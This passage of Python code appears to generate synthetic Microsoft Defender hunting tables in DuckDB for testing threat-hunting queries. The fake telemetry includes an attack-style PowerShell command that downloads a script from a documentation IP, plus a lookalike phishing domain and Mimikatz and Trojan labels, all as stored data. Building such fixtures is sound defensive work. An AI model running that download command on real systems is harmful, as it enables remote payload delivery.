        InitiatingProcessIntegrityLevel InitiatingProcessTokenElevation InitiatingProcessSHA1 InitiatingProcessSHA256
        InitiatingProcessMD5 InitiatingProcessFileName InitiatingProcessFileSize InitiatingProcessVersionInfoCompanyName
        InitiatingProcessVersionInfoProductName InitiatingProcessVersionInfoProductVersion
        InitiatingProcessVersionInfoInternalFileName InitiatingProcessVersionInfoOriginalFileName
        InitiatingProcessVersionInfoFileDescription InitiatingProcessId InitiatingProcessCommandLine
        InitiatingProcessCreationTime InitiatingProcessFolderPath InitiatingProcessParentId
        InitiatingProcessParentFileName InitiatingProcessParentCreationTime InitiatingProcessSignerType
        InitiatingProcessSignatureStatus ReportId AppGuardContainerId AdditionalFields""",
              base=_FORCED_DEVICE_ROWS),
    TableSpec("DeviceNetworkEvents", lambda rows: max(500, rows // 2), f"""Timestamp DeviceId DeviceName ActionType
        RemoteIP RemotePort RemoteUrl LocalIP LocalPort Protocol LocalIPType RemoteIPType InitiatingProcessSHA1
        InitiatingProcessSHA256 InitiatingProcessMD5 InitiatingProcessFileName InitiatingProcessFileSize
        InitiatingProcessVersionInfoCompanyName InitiatingProcessVersionInfoProductName
        InitiatingProcessVersionInfoProductVersion InitiatingProcessVersionInfoInternalFileName
        InitiatingProcessVersionInfoOriginalFileName InitiatingProcessVersionInfoFileDescription InitiatingProcessId
        InitiatingProcessCommandLine InitiatingProcessCreationTime InitiatingProcessFolderPath
        InitiatingProcessParentFileName InitiatingProcessParentId InitiatingProcessParentCreationTime
        InitiatingProcessAccountDomain InitiatingProcessAccountName InitiatingProcessAccountSid
        InitiatingProcessAccountUpn InitiatingProcessAccountObjectId InitiatingProcessIntegrityLevel
        InitiatingProcessTokenElevation ReportId AppGuardContainerId AdditionalFields {_REMOTE_SESSION}""", {
        "ActionType": _NET_ACTION,
        "RemoteIP": _pick([e[1] for e in _ENDPOINTS], _NET_BITS),
        "RemotePort": _pick([e[2] for e in _ENDPOINTS], _NET_BITS, "INTEGER"),
        "RemoteUrl": _pick([e[0] for e in _ENDPOINTS], _NET_BITS),
        "RemoteIPType": _pick([e[3] for e in _ENDPOINTS], _NET_BITS),
        "Protocol": _pick([e[4] for e in _ENDPOINTS], _NET_BITS),
        "LocalPort": f"CASE WHEN {_NET_ACT} <> 5 THEN CAST(49152 + (b.hz >> 8) % 16000 AS INTEGER) END",
    }, base={"ik": f"CASE WHEN i % 41 = 0 THEN {_UPDATER} ELSE $INITIATOR END"}),
    TableSpec("DeviceFileEvents", lambda rows: max(400, rows // 3), f"""Timestamp DeviceId DeviceName ActionType
        FileName FolderPath SHA1 SHA256 MD5 FileOriginUrl FileOriginReferrerUrl FileOriginIP PreviousFolderPath
        PreviousFileName FileSize InitiatingProcessAccountDomain InitiatingProcessAccountName
        InitiatingProcessAccountSid InitiatingProcessAccountUpn InitiatingProcessAccountObjectId InitiatingProcessMD5
        InitiatingProcessSHA1 InitiatingProcessSHA256 InitiatingProcessFolderPath InitiatingProcessFileName
        InitiatingProcessFileSize InitiatingProcessVersionInfoCompanyName InitiatingProcessVersionInfoProductName
        InitiatingProcessVersionInfoProductVersion InitiatingProcessVersionInfoInternalFileName
        InitiatingProcessVersionInfoOriginalFileName InitiatingProcessVersionInfoFileDescription InitiatingProcessId
        InitiatingProcessCommandLine InitiatingProcessCreationTime InitiatingProcessIntegrityLevel
        InitiatingProcessTokenElevation InitiatingProcessParentId InitiatingProcessParentFileName
        InitiatingProcessParentCreationTime RequestProtocol RequestSourceIP RequestSourcePort RequestAccountName
        RequestAccountDomain RequestAccountSid ShareName SensitivityLabel SensitivitySubLabel
        IsAzureInfoProtectionApplied ReportId AppGuardContainerId AdditionalFields {_REMOTE_SESSION}""", {
        "ActionType": _FILE_ACTION, "SHA256": "cp.SHA256",
        "FileOriginUrl": "CASE WHEN b.hz % 4 = 0 THEN 'https://cdn-update.c0ntoso-invoices.com/dl/' || cp.FileName "
                         "ELSE '' END",
        "FileOriginReferrerUrl": "CASE WHEN b.hz % 4 = 0 THEN 'https://outlook.office.com/mail/inbox' ELSE '' END",
        "FileOriginIP": "CASE WHEN b.hz % 4 = 0 THEN '198.51.100.23' ELSE '' END",
        "PreviousFolderPath": f"CASE WHEN {_FILE_ACT} = 2 THEN {_DOWNLOADS} ELSE '' END",
        "PreviousFileName": f"CASE WHEN {_FILE_ACT} = 2 THEN cp.FileName || '.crdownload' ELSE '' END",
        "RequestProtocol": f"CASE WHEN {_SMB} THEN 'SMB' ELSE 'Local' END",
        "RequestSourceIP": f"CASE WHEN {_SMB} THEN '10.1.0.33' ELSE '' END",
        "RequestSourcePort": f"CASE WHEN {_SMB} THEN CAST(50000 + (b.hx >> 4) % 9000 AS INTEGER) END",
        "RequestAccountName": f"CASE WHEN {_SMB} THEN a.AccountName ELSE '' END",
        "RequestAccountDomain": f"CASE WHEN {_SMB} THEN a.AccountDomain ELSE '' END",
        "RequestAccountSid": f"CASE WHEN {_SMB} THEN a.AccountSid ELSE '' END",
        "ShareName": f"CASE WHEN {_SMB} THEN 'Finance$' ELSE '' END",
        "SensitivityLabel": _pick(["", "", "Confidential", "General"], "b.hy >> 6"), "SensitivitySubLabel": "''",
        "IsAzureInfoProtectionApplied": "CASE WHEN b.hz % 9 = 0 THEN NULL ELSE b.hz % 5 = 0 END",
    }, base={"ck": f"CASE WHEN i % 41 = 0 THEN {_UPDATER} ELSE $ANYFILE END"}),
    TableSpec("DeviceRegistryEvents", lambda rows: max(300, rows // 5), f"""Timestamp DeviceId DeviceName ActionType
        RegistryKey RegistryValueType RegistryValueName RegistryValueData PreviousRegistryKey
        PreviousRegistryValueName PreviousRegistryValueData {_INITIATING.replace('InitiatingProcessIntegrityLevel', '')
        .replace('InitiatingProcessTokenElevation', '')} InitiatingProcessIntegrityLevel
        InitiatingProcessTokenElevation ReportId AppGuardContainerId {_REMOTE_SESSION}""", {
        "ActionType": _REG_ACTION,
        "RegistryKey": _user(_pick([r[0] for r in _REGISTRY], _REG_BITS)),
        "RegistryValueName": f"CASE WHEN {_REG_ACT} = 2 THEN '' ELSE {_pick([r[1] for r in _REGISTRY], _REG_BITS)} END",
        "RegistryValueType": f"CASE WHEN {_REG_ACT} = 2 THEN '' ELSE {_pick([r[2] for r in _REGISTRY], _REG_BITS)} END",
        "RegistryValueData": f"CASE WHEN {_REG_ACT} <> 0 THEN '' "
                             f"ELSE {_user(_pick([r[3] for r in _REGISTRY], _REG_BITS))} END",
        "PreviousRegistryKey": "''", "PreviousRegistryValueName": "''",
        "PreviousRegistryValueData": f"CASE WHEN {_REG_ACT} = 0 AND b.hz % 3 = 0 THEN '1' ELSE '' END",
    }, base={"ik": "CASE WHEN i % 41 = 0 THEN 10 ELSE $INITIATOR END"}),
    TableSpec("DeviceEvents", lambda rows: max(300, rows // 5), f"""Timestamp DeviceId DeviceName ActionType FileName
        FolderPath SHA1 SHA256 MD5 FileSize AccountDomain AccountName AccountSid RemoteUrl RemoteDeviceName ProcessId
        ProcessCommandLine ProcessCreationTime ProcessTokenElevation LogonId RegistryKey RegistryValueName
        RegistryValueData RemoteIP RemotePort LocalIP LocalPort FileOriginUrl FileOriginIP InitiatingProcessSHA1
        InitiatingProcessSHA256 InitiatingProcessMD5 InitiatingProcessFileName InitiatingProcessFileSize
        InitiatingProcessFolderPath InitiatingProcessId InitiatingProcessCommandLine InitiatingProcessCreationTime
        InitiatingProcessAccountDomain InitiatingProcessAccountName InitiatingProcessAccountSid
        InitiatingProcessAccountUpn InitiatingProcessAccountObjectId InitiatingProcessVersionInfoCompanyName
        InitiatingProcessVersionInfoProductName InitiatingProcessVersionInfoProductVersion
        InitiatingProcessVersionInfoInternalFileName InitiatingProcessVersionInfoOriginalFileName
        InitiatingProcessVersionInfoFileDescription InitiatingProcessParentId InitiatingProcessParentFileName
        InitiatingProcessParentCreationTime InitiatingProcessLogonId ReportId AppGuardContainerId AdditionalFields
        {_REMOTE_SESSION} CreatedProcessSessionId IsProcessRemoteSession ProcessRemoteSessionDeviceName
        ProcessRemoteSessionIP""", {
        "ActionType": _EVENT_ACTION,
        "RemoteUrl": f"CASE WHEN {_EVENT_ACT} >= 4 THEN {_pick([e[0] for e in _ENDPOINTS], 'b.hy >> 8')} ELSE '' END",
        "RemoteIP": f"CASE WHEN {_EVENT_ACT} >= 4 THEN {_pick([e[1] for e in _ENDPOINTS], 'b.hy >> 8')} ELSE '' END",
        "RemotePort": f"CASE WHEN {_EVENT_ACT} >= 4 THEN {_pick([e[2] for e in _ENDPOINTS], 'b.hy >> 8', 'INTEGER')}"
                      " END",
        "LocalPort": "CAST(NULL AS INTEGER)",
        "AdditionalFields": f"""CASE {_EVENT_ACT}
            WHEN 0 THEN json_object('ThreatName', 'Trojan:Win32/Wacatac.B!ml', 'WasRemediated', b.hz % 2 = 0,
                                    'Container', NULL)
            WHEN 1 THEN json_object('Command',
                                    'Invoke-WebRequest -Uri "http://198.51.100.23/a.ps1" -OutFile ''C:\\Temp\\a.ps1''')
            WHEN 2 THEN json_object('TaskName', '\\Updater',
                                    'TaskContent', '<Exec><Command>updater.exe</Command></Exec>')
            WHEN 3 THEN json_object('DriveLetter', 'E:', 'ProductName', 'Clé USB “Kingston”', 'Volume', 'ÉQUIPE')
            ELSE {_DYNAMIC} END""",
    }),
    TableSpec("DeviceLogonEvents", lambda rows: max(300, rows // 10), f"""Timestamp DeviceId DeviceName ActionType
        LogonType AccountDomain AccountName AccountSid Protocol FailureReason IsLocalAdmin LogonId RemoteDeviceName
        RemoteIP RemoteIPType RemotePort {_INITIATING} ReportId AppGuardContainerId AdditionalFields
        {_REMOTE_SESSION}""", {
        "ActionType": _LOGON_ACTION,
        "LogonType": _pick(["Interactive", "RemoteInteractive", "Network", "Batch", "Service", "Unlock",
                            "CachedInteractive"], _LOGON_TYPE),
        "Protocol": _pick(["Kerberos", "NTLM", "Negotiate"], "b.hx >> 6"),
        "FailureReason": f"CASE WHEN {_LOGON_ACT} = 3 THEN {_LOGON_FAILURE} ELSE '' END",
        "IsLocalAdmin": "CASE WHEN b.hz % 13 = 0 THEN NULL ELSE b.hz % 4 = 0 END",
        "RemoteDeviceName": f"CASE WHEN {_REMOTE_LOGON} THEN {_pick([d[0] for d in _DEVICES], 'b.hy >> 9')} "
                            "ELSE '' END",
        "RemoteIP": f"CASE WHEN {_REMOTE_LOGON} THEN '10.1.' || ((b.hy >> 9) % 4) || '.' || (20 + (b.hy >> 9) % 16) "
                    "ELSE '' END",
        "RemoteIPType": f"CASE WHEN {_REMOTE_LOGON} THEN 'Private' ELSE '' END",
        "RemotePort": f"CASE WHEN {_REMOTE_LOGON} THEN CAST(49152 + (b.hz >> 8) % 16000 AS INTEGER) END",
    }, base={"ik": "CASE WHEN i % 41 = 0 THEN 3 ELSE $INITIATOR END"}),
]
_DEVICE_INFO_BASE = {
    "dk": f"i % {len(_DEVICES)}",
    "ts": f"$ANCHOR - to_days(CAST(i // {len(_DEVICES)} AS INTEGER))"
          " - to_microseconds(CAST($TSHASH % 3600000000 AS BIGINT))",
}
TABLES += [
    TableSpec("DeviceInfo", lambda rows: len(_DEVICES) * WINDOW_DAYS, """Timestamp DeviceId DeviceName ClientVersion
        PublicIP OSArchitecture OSPlatform OSBuild IsAzureADJoined JoinType AadDeviceId LoggedOnUsers
        RegistryDeviceTag OSVersion MachineGroup ReportId OnboardingStatus AdditionalFields DeviceCategory DeviceType
        DeviceSubtype Model Vendor OSDistribution OSVersionInfo MergedDeviceIds MergedToDeviceId IsInternetFacing
        SensorHealthState IsExcluded ExclusionReason ExposureLevel AssetValue DeviceManualTags DeviceDynamicTags
        ConnectivityType HostDeviceId""", {
        **{column: f"d.{column}" for column in (
            "ClientVersion", "PublicIP", "OSArchitecture", "OSPlatform", "OSBuild", "IsAzureADJoined", "JoinType",
            "AadDeviceId", "OSVersion", "MachineGroup", "DeviceType", "Model", "Vendor", "OSDistribution",
            "OSVersionInfo", "DeviceManualTags")},
        "LoggedOnUsers": "CASE WHEN d.DeviceType = 'Server' AND b.hx % 3 = 0 THEN CAST('[]' AS JSON) ELSE "
                         "to_json([struct_pack(UserName := a.AccountName, DomainName := upper(a.AccountDomain), "
                         "Sid := a.AccountSid)]) END",
        "RegistryDeviceTag": _pick(["", "", "Finance-Tier1"], "b.hy"), "OnboardingStatus": "'Onboarded'",
        "AdditionalFields": "json_object('AzureResourceId', NULL, 'IsVirtual', d.DeviceType = 'Server', "
                            "'Note', 'poste « compta »')",
        "DeviceCategory": "'Endpoint'", "DeviceSubtype": "''", "MergedDeviceIds": "''", "MergedToDeviceId": "''",
        "IsInternetFacing": "CASE WHEN b.hx % 7 = 0 THEN NULL ELSE d.DeviceName LIKE 'srv-web%' END",
        "SensorHealthState": _pick(["Active", "Active", "Active", "Inactive"], "b.hz"), "IsExcluded": "false",
        "ExclusionReason": "''", "ExposureLevel": _pick(["Low", "Medium", "High"], "b.hw"),
        "AssetValue": _pick(["Normal", "Normal", "High", "Low"], "b.hy >> 4"), "DeviceDynamicTags": "'[]'",
        "ConnectivityType": _pick(["Streamlined", "Standard"], "b.hz >> 5"), "HostDeviceId": "''",
    }, base=_DEVICE_INFO_BASE),
    TableSpec("AlertInfo", lambda rows: max(30, rows // 1000), """Timestamp AlertId Title Category Severity
        ServiceSource DetectionSource AttackTechniques""", {"AlertId": _ALERT_ID, **_ALERT}, salt="Alert"),
    TableSpec("AlertEvidence", lambda rows: 3 * max(30, rows // 1000), """Timestamp AlertId Title Categories
        AttackTechniques ServiceSource DetectionSource EntityType EvidenceRole EvidenceDirection FileName FolderPath
        SHA1 SHA256 FileSize ThreatFamily RemoteIP RemoteUrl AccountName AccountDomain AccountSid AccountObjectId
        AccountUpn DeviceId DeviceName LocalIP NetworkMessageId EmailSubject Application ApplicationId
        OAuthApplicationId ProcessCommandLine RegistryKey RegistryValueName RegistryValueData AdditionalFields Severity
        CloudResource CloudPlatform ResourceType ResourceID SubscriptionId""", {
        "AlertId": _ALERT_ID, **_ALERT, "Categories": f"'[\"' || {_ALERT['Category']} || '\"]'",
        "EntityType": _pick(["File", "Machine", "User"], _ROLE),
        "EvidenceRole": _pick(["Related", "Impacted", "Impacted"], _ROLE),
        "EvidenceDirection": "''",
        **{column: f"CASE WHEN {_ROLE} = 0 THEN {COMMON[column]} ELSE '' END"
           for column in ("FileName", "FolderPath", "SHA1", "ProcessCommandLine")},
        "SHA256": f"CASE WHEN {_ROLE} = 0 THEN cp.SHA256 ELSE '' END",
        "FileSize": f"CASE WHEN {_ROLE} = 0 THEN cp.FileSize END",
        "ThreatFamily": f"CASE WHEN {_ROLE} = 0 AND ({_ALERT_BITS}) % {len(_ALERTS)} = 1 THEN 'Mimikatz' ELSE '' END",
        "RemoteIP": "''", "RemoteUrl": "''",
        **{column: f"CASE WHEN {_ROLE} = 2 THEN a.{column} ELSE '' END" for column in _IP.values()},
        "DeviceId": f"CASE WHEN {_ROLE} = 1 THEN d.DeviceId ELSE '' END",
        "DeviceName": f"CASE WHEN {_ROLE} = 1 THEN d.DeviceName ELSE '' END",
        "LocalIP": f"CASE WHEN {_ROLE} = 1 THEN d.LocalIP ELSE '' END",
        **{column: "''" for column in ("NetworkMessageId", "EmailSubject", "Application", "OAuthApplicationId",
                                       "CloudResource", "CloudPlatform", "ResourceType", "ResourceID",
                                       "SubscriptionId")},
        "ApplicationId": "CAST(NULL AS INTEGER)",
        "AdditionalFields": "json_object('Type', " + _pick(["file", "host", "account"], _ROLE) + ", 'Role', "
                            + _pick(["Related", "Impacted", "Impacted"], _ROLE)
                            + ", 'MergeByKey', md5(CAST(b.i AS VARCHAR)))",
    }, key="i // 3", salt="Alert",
        base={"ck": f"CASE WHEN ({_ALERT_BITS_BASE}) % {len(_ALERTS)} = 0 THEN {_UPDATER} ELSE $TARGET END"}),
    TableSpec("EmailEvents", lambda rows: max(200, rows // 10), """Timestamp NetworkMessageId InternetMessageId
        SenderMailFromAddress SenderFromAddress SenderDisplayName SenderObjectId SenderMailFromDomain SenderFromDomain
        SenderIPv4 SenderIPv6 RecipientEmailAddress RecipientObjectId Subject EmailClusterId EmailDirection
        DeliveryAction DeliveryLocation ThreatTypes ThreatNames DetectionMethods ConfidenceLevel BulkComplaintLevel
        EmailAction EmailActionPolicy EmailActionPolicyGuid AuthenticationDetails AttachmentCount UrlCount
        EmailLanguage Connectors OrgLevelAction OrgLevelPolicy UserLevelAction UserLevelPolicy ReportId
        AdditionalFields LatestDeliveryLocation LatestDeliveryAction""", {
        "NetworkMessageId": _MESSAGE_ID,
        "InternetMessageId": f"'<' || substr(md5(CAST(b.hy AS VARCHAR)), 1, 20) || '@' || {_SENDER['Domain']} || '>'",
        "SenderMailFromAddress": _SENDER["Address"], "SenderFromAddress": _SENDER["Address"],
        "SenderDisplayName": _SENDER["Display"], "SenderMailFromDomain": _SENDER["Domain"],
        "SenderFromDomain": _SENDER["Domain"], "SenderIPv4": _SENDER["IPv4"], "SenderIPv6": "''",
        "SenderObjectId": f"CASE WHEN {_SENDER['Domain']} = 'contoso.com' THEN {_guid('b.hx')} ELSE '' END",
        "RecipientEmailAddress": "a.AccountUpn", "RecipientObjectId": "a.AccountObjectId",
        "Subject": _pick(_SUBJECTS, "b.hy >> 4"),
        "EmailClusterId": "CASE WHEN b.hz % 6 = 0 THEN NULL ELSE CAST(b.hz % 10000000000 AS BIGINT) END",
        "EmailDirection": f"CASE WHEN {_SENDER['Domain']} = 'contoso.com' THEN 'Intra-org' ELSE 'Inbound' END",
        "DeliveryAction": _pick(["Delivered", "Delivered", "Junked", "Blocked"], _DELIVERY),
        "DeliveryLocation": _pick(["Inbox/folder", "Inbox/folder", "Junk folder", "Quarantine"], _DELIVERY),
        "LatestDeliveryAction": _pick(["Delivered", "Delivered", "Junked", "Blocked"], _DELIVERY),
        "LatestDeliveryLocation": _pick(["Inbox/folder", "Inbox/folder", "Junk folder", "Quarantine"], _DELIVERY),
        "ThreatTypes": f"CASE WHEN {_SENDER_BITS} % {len(_SENDERS)} = 0 THEN 'Phish' ELSE '' END",
        "ThreatNames": "''",
        "DetectionMethods": f"""CASE WHEN {_PHISH} THEN '{{"Phish":["URL detonation reputation"]}}' ELSE '' END""",
        "ConfidenceLevel": f"""CASE WHEN {_PHISH} THEN '{{"Phish":"High","Spam":null}}'
            ELSE '{{"Phish":null,"Spam":"Low"}}' END""",
        "BulkComplaintLevel": "CASE WHEN b.hz % 5 = 0 THEN NULL ELSE CAST(b.hz % 10 AS INTEGER) END",
        "EmailAction": _pick(["No action taken", "Move message to junk mail folder", "Send to quarantine"], _DELIVERY),
        "EmailActionPolicy": _pick(["", "Antispam", "Antiphish"], _DELIVERY), "EmailActionPolicyGuid": "''",
        "AuthenticationDetails": f"""CASE WHEN {_SENDER_BITS} % {len(_SENDERS)} = 0
            THEN '{{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}}'
            ELSE '{{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}}' END""",
        "AttachmentCount": "CAST(b.hz % 3 AS INTEGER)", "UrlCount": "CAST(b.hy % 6 AS INTEGER)",
        "EmailLanguage": _pick(["en", "fr", "zh", ""], "b.hw >> 3"),
        **{column: "''" for column in ("Connectors", "OrgLevelAction", "OrgLevelPolicy", "UserLevelAction",
                                       "UserLevelPolicy")},
        "ReportId": f"{_MESSAGE_ID} || '-' || CAST(b.hw % 1000000 AS VARCHAR)",
    }),
    TableSpec("IdentityLogonEvents", lambda rows: max(200, rows // 10), """Timestamp ActionType Application LogonType
        Protocol FailureReason AccountName AccountDomain AccountUpn AccountSid AccountObjectId AccountDisplayName
        DeviceName DeviceType OSPlatform IPAddress Port DestinationDeviceName DestinationIPAddress DestinationPort
        TargetDeviceName TargetAccountDisplayName Location Isp ReportId AdditionalFields""", {
        "ActionType": f"CASE WHEN {_FAILED_IDENTITY} THEN 'LogonFailed' ELSE 'LogonSuccess' END",
        "Application": _pick(["Active Directory", "Microsoft 365", "Microsoft Entra ID"], "b.hx >> 3"),
        "LogonType": _pick(["Resource access", "Interactive", "Credentials validation", "Remote desktop"], "b.hz >> 3"),
        "Protocol": _pick(["Kerberos", "Ntlm", ""], "b.hx >> 3"),
        "FailureReason": f"CASE WHEN {_FAILED_IDENTITY} THEN 'WrongPassword' ELSE '' END",
        "AccountDisplayName": "a.DisplayName", "DeviceType": "d.DeviceType", "OSPlatform": "d.OSPlatform",
        "IPAddress": "d.LocalIP",
        "Port": "CASE WHEN b.hz % 4 <> 0 THEN CAST(49152 + (b.hz >> 8) % 16000 AS INTEGER) END",
        "DestinationDeviceName": "'srv-dc-01.contoso.local'", "DestinationIPAddress": "'10.1.1.28'",
        "DestinationPort": "CASE WHEN b.hz % 4 = 0 THEN NULL ELSE CAST(88 AS INTEGER) END",
        "TargetDeviceName": "''", "TargetAccountDisplayName": "''",
        "Location": _pick(["Paris, FR", "Seattle, US", "São Paulo, BR", "北京, CN", ""], "b.hy >> 5"),
        "Isp": _pick(["Contoso Networks", "Orange", ""], "b.hy >> 7"),
        "ReportId": _guid("hash(b.i, $SEED, 'IdentityReportId')"),
        "AdditionalFields": "json_object('Pass-through authentication', b.hz % 2 = 0, "
                            "'Count', CAST(1 + b.hw % 5 AS INTEGER), "
                            "'Source Account Display Name', a.DisplayName)",
    }, base={"ak": "CASE WHEN i % 11 = 0 THEN 0 ELSE $ACCOUNT END"}),
]


def schema() -> dict[str, list[tuple[str, str]]]:
    """Table -> [(column, Kusto type)], in schema order."""
    return {spec.name: [(column, _kusto_type(column, spec.name)) for column in spec.column_names()] for spec in TABLES}


def load(con: duckdb.DuckDBPyConnection, rows: int = 20_000, seed: int = 7, anchor: datetime | None = None,
         into: str = "main") -> None:
    """Create every table in schema *into* (SQL: ``main``, ``db.hunting``): *rows* DeviceProcessEvents rows, the others
    scaled from it.

    *anchor* (default: now) is the moment the newest rows approach; pass the same one to get identical tables.
    """
    if rows < 1:
        raise ValueError("rows must be positive")
    moment = (anchor or datetime.now(UTC)).astimezone(UTC).replace(tzinfo=None)
    con.execute("CREATE SCHEMA lk")
    try:
        _create_lookups(con)
        for spec in TABLES:
            con.execute(_table_sql(spec, rows, seed, moment, into))
    finally:
        con.execute("DROP SCHEMA IF EXISTS lk CASCADE")  # the lookups are scaffolding, not hunting tables


def _create_lookups(con: duckdb.DuckDBPyConnection) -> None:
    con.execute("""CREATE TABLE lk.devices (k INTEGER, DeviceId VARCHAR, DeviceName VARCHAR, OSPlatform VARCHAR,
        DeviceType VARCHAR, MachineGroup VARCHAR, LocalIP VARCHAR, PublicIP VARCHAR, OSVersion VARCHAR, OSBuild BIGINT,
        OSArchitecture VARCHAR, IsAzureADJoined BOOLEAN, JoinType VARCHAR, AadDeviceId VARCHAR, ClientVersion VARCHAR,
        Model VARCHAR, Vendor VARCHAR, OSDistribution VARCHAR, OSVersionInfo VARCHAR, DeviceManualTags VARCHAR)""")
    devices = []
    for k, (name, platform, device_type, group) in enumerate(_DEVICES):
        windows = platform.startswith("Windows")
        version, build = _OS[platform]
        devices.append((
            k, hashlib.sha1(name.encode()).hexdigest(), name, platform, device_type, group,  # noqa: S324
            f"10.1.{k % 4}.{20 + k}", f"203.0.113.{10 + k % 4}", version, build, "64-bit",
            windows and device_type == "Workstation", "Hybrid Azure AD Join" if windows else "",
            str(uuid.uuid5(uuid.NAMESPACE_DNS, name)) if windows else "", "10.8760.22621.3593",
            "Latitude 7440" if device_type == "Workstation" else "PowerEdge R650", "Dell Inc." if windows else "",
            "Ubuntu" if platform == "Linux" else "", "23H2" if platform == "Windows11" else "",
            f'["{group}"]' if k % 3 == 0 else "[]",
        ))
    con.executemany("INSERT INTO lk.devices VALUES (" + ", ".join(["?"] * 20) + ")", devices)  # noqa: S608
    con.execute("""CREATE TABLE lk.accounts (k INTEGER, AccountName VARCHAR, AccountDomain VARCHAR, AccountUpn VARCHAR,
        AccountSid VARCHAR, AccountObjectId VARCHAR, DisplayName VARCHAR)""")
    con.executemany("INSERT INTO lk.accounts VALUES (?, ?, ?, ?, ?, ?, ?)", [
        (k, name, KNOWN_ACCOUNT_DOMAIN, f"{name}@contoso.com", f"S-1-5-21-1004336348-1177238915-682003330-{1103 + k}",
         str(uuid.uuid5(uuid.NAMESPACE_URL, f"contoso/{name}")), display)
        for k, (name, display) in enumerate(_ACCOUNTS)])
    con.execute("""CREATE TABLE lk.profiles (k INTEGER, FileName VARCHAR, FolderPath VARCHAR, SHA1 VARCHAR,
        SHA256 VARCHAR, MD5 VARCHAR, FileSize BIGINT, Company VARCHAR, Product VARCHAR, Version VARCHAR,
        InternalName VARCHAR, OriginalName VARCHAR, Description VARCHAR, Integrity VARCHAR, SignerType VARCHAR,
        SignatureStatus VARCHAR)""")
    profiles, commands = [], []
    for k, profile in enumerate(_PROFILES):
        name, folder, (company, product, version), description, integrity, signer, size, lines = profile
        content = f"{name}|{version}".encode()
        sha256 = KNOWN_SHA256 if k == _UPDATER else hashlib.sha256(content).hexdigest()
        internal = name.rsplit(".", 1)[0] if lines else ""
        profiles.append((k, name, folder, hashlib.sha1(content).hexdigest(), sha256,  # noqa: S324
                         hashlib.md5(content).hexdigest(), size, company, product, version, internal,  # noqa: S324
                         name.upper() if lines else "", description, integrity, *signer))
        commands += [(k, j, line) for j, line in enumerate(lines or [])]
    con.executemany("INSERT INTO lk.profiles VALUES (" + ", ".join(["?"] * 16) + ")", profiles)  # noqa: S608
    con.execute("CREATE TABLE lk.commands (k INTEGER, j INTEGER, CommandLine VARCHAR)")
    con.executemany("INSERT INTO lk.commands VALUES (?, ?, ?)", commands)


def _table_sql(spec: TableSpec, rows: int, seed: int, anchor: datetime, into: str) -> str:
    salt = _lit(spec.salt or spec.name)

    def hashed(name: str) -> str:
        return f"hash({spec.key}, $SEED, {salt}, '{name}')"

    base = {"dk": "CASE WHEN i % 41 = 0 THEN 0 ELSE $DEVICE END", "ak": "CASE WHEN i % 41 = 0 THEN 0 ELSE $ACCOUNT END",
            "ik": "$INITIATOR", "ck": "$TARGET",
            "ts": f"$ANCHOR - to_microseconds(CAST($TSHASH % {WINDOW_DAYS * 86_400_000_000} AS BIGINT))", **spec.base}
    initiators = ", ".join(str(k) for k in _INITIATORS)
    placeholders = {  # longest first: $TARGET must not eat part of another name
        "$INITIATOR": f"[{initiators}][1 + CAST({hashed('i')} % {len(_INITIATORS)} AS BIGINT)]",
        "$ANYFILE": f"{hashed('c')} % {len(_PROFILES)}", "$TARGET": f"{hashed('c')} % {_EXECUTABLES}",
        "$ACCOUNT": f"{hashed('a')} % {len(_ACCOUNTS)}", "$DEVICE": f"{hashed('d')} % {len(_DEVICES)}",
        "$TSHASH": hashed("t"), "$KEY": f"({spec.key})", "$HX": hashed("x"),
        "$ANCHOR": f"TIMESTAMP '{anchor.isoformat(sep=' ')}'",
    }
    bits = ", ".join(f"{hashed(name)} AS h{name}" for name in ("x", "y", "z", "w"))
    keys = ", ".join(f"CAST({base[name]} AS INTEGER) AS {name}" for name in ("dk", "ak", "ik", "ck"))
    exprs = {**COMMON, **spec.exprs}
    columns = ",\n  ".join(
        f'CAST(({exprs[column]}) AS {SQL_TYPES[kusto]}) AS "{column}"' for column, kusto in schema()[spec.name])
    sql = f"""CREATE TABLE {into}."{spec.name}" AS
SELECT {columns}
FROM (SELECT i, {spec.key} AS k, {keys}, {bits}, {base['ts']} AS ts FROM range({spec.size(rows)}) r(i)) b
JOIN lk.devices d ON d.k = b.dk JOIN lk.accounts a ON a.k = b.ak
JOIN lk.profiles ip ON ip.k = b.ik JOIN lk.profiles cp ON cp.k = b.ck
LEFT JOIN lk.commands ipc ON ipc.k = b.ik AND ipc.j = CAST(b.hx % 4 AS INTEGER)
LEFT JOIN lk.commands cpc ON cpc.k = b.ck AND cpc.j = CAST(b.hy % 4 AS INTEGER)
ORDER BY b.i"""  # noqa: S608 - every part is the dataset's own text
    for placeholder, value in placeholders.items():
        sql = sql.replace(placeholder, value)
    return sql.replace("$SEED", str(int(seed)))
